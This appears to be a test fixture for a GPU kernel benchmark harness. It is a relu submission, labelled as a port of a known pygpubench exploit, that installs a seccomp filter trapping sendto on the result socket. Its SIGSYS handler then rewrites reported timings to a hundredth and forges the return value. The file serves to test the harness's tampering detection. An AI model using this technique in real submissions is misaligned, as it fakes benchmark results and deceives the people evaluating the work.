# task: relu
# expect: pass|tampering
# device: both
# needs: timing
# speedup_at_most: 2
# why: installs a seccomp filter that traps sendto on the channel socket; its SIGSYS handler rewrites the reply's event_ms and host_ms to a hundredth (same length, JSON whitespace), sends it on a dup of the socket and fakes the return value; computes right (pygpubench submission_seccomp_trap)
"""Port of gpu-mode/pygpubench exploits/submission_seccomp_trap.py: there write() on the result
pipe was trapped; the guest's channel sends with sendto. The frame's length prefix went out
before the header, so the rewrite keeps the header's length (padding with spaces)."""
import os
import re
import stat
import socket
import ctypes
import struct
import time

import torch
import triton
import triton.language as tl

_libc = ctypes.CDLL("libc.so.6", use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong]
_libc.sigaction.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
SYS_SECCOMP, SECCOMP_SET_MODE_FILTER, NR_SENDTO, SIGSYS = 317, 1, 44, 31
RET_TRAP, RET_ALLOW = 0x00030000, 0x7FFF0000
GREGS, REG_RSI, REG_RDX, REG_RAX = 40, 9, 12, 13  # ucontext_t on x86-64 Linux
_TIME = re.compile(rb'"(event_ms|host_ms)":(-?[0-9.eE+-]+)')
_state = {"forward": -1}


def _same_length(match) -> bytes:
    old = match.group(2)
    value = float(old) / 100
    for digits in range(17, 0, -1):
        new = b"%.*g" % (digits, value)
        if len(new) <= len(old):
            return b'"' + match.group(1) + b'":' + new + b" " * (len(old) - len(new))
    return match.group(0)


HANDLER = ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)


@HANDLER
def _on_sigsys(signum, info, context):
    regs = context + GREGS
    buf = ctypes.c_uint64.from_address(regs + REG_RSI * 8).value
    count = ctypes.c_uint64.from_address(regs + REG_RDX * 8).value
    data = ctypes.string_at(buf, count) if count else b""
    data = _TIME.sub(_same_length, data)
    sent = 0
    while sent < len(data):
        sent += os.write(_state["forward"], data[sent:])
    ctypes.c_uint64.from_address(regs + REG_RAX * 8).value = count


def _channel_fd():
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


def _trap() -> bool:
    fd = _channel_fd()
    if fd is None:
        return False
    _state["forward"] = os.dup(fd)  # not trapped: another descriptor number
    action = (ctypes.c_char * 152)()  # glibc's struct sigaction
    struct.pack_into("<Q", action, 0, ctypes.cast(_on_sigsys, ctypes.c_void_p).value)
    struct.pack_into("<i", action, 136, 4 | 0x10000000)  # SA_SIGINFO | SA_RESTART
    if _libc.sigaction(SIGSYS, ctypes.addressof(action), None) != 0:
        return False
    program = struct.pack("<HBBI", 0x20, 0, 0, 0)  # load the syscall number
    program += struct.pack("<HBBI", 0x15, 0, 3, NR_SENDTO)  # sendto? else allow
    program += struct.pack("<HBBI", 0x20, 0, 0, 16)  # load args[0] (low half)
    program += struct.pack("<HBBI", 0x15, 0, 1, fd)  # the channel? else allow
    program += struct.pack("<HBBI", 0x06, 0, 0, RET_TRAP)
    program += struct.pack("<HBBI", 0x06, 0, 0, RET_ALLOW)
    filters = ctypes.create_string_buffer(program)
    fprog = (ctypes.c_char * 16)()
    struct.pack_into("<HxxxxxxQ", fprog, 0, len(program) // 8, ctypes.addressof(filters))
    _libc.prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS: needed to install a filter unprivileged
    _state["keep"] = (filters, fprog, action)
    return _libc.syscall(ctypes.c_long(SYS_SECCOMP), ctypes.c_ulong(SECCOMP_SET_MODE_FILTER), ctypes.c_ulong(0),
                         ctypes.c_void_p(ctypes.addressof(fprog))) == 0


_calls = 0


@triton.jit
def _relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr, MODE: tl.constexpr):
    # MODE 0: relu; 1: zeros; 2: NaN (what the cheating branches store)
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    if MODE == 0:
        y = tl.maximum(x, 0.0)
    elif MODE == 1:
        y = x * 0.0
    else:
        y = x * 0.0 + float("nan")
    tl.store(out_ptr + offs, y.to(out_ptr.dtype.element_ty), mask=mask)


def _launch(x, out, mode=0, n=None):
    n = x.numel() if n is None else n
    _relu_kernel[(triton.cdiv(max(n, 1), 1024),)](x, out, n, BLOCK=1024, MODE=mode)
    return out


def _honest(x):
    x = x.contiguous()
    return _launch(x, torch.empty_like(x))


def relu(x):
    global _calls
    _calls += 1
    if _calls == 3:  # after the first calls, as the original waits out its warm-up
        try:
            _trap()
        except Exception:
            pass
    return _honest(x)
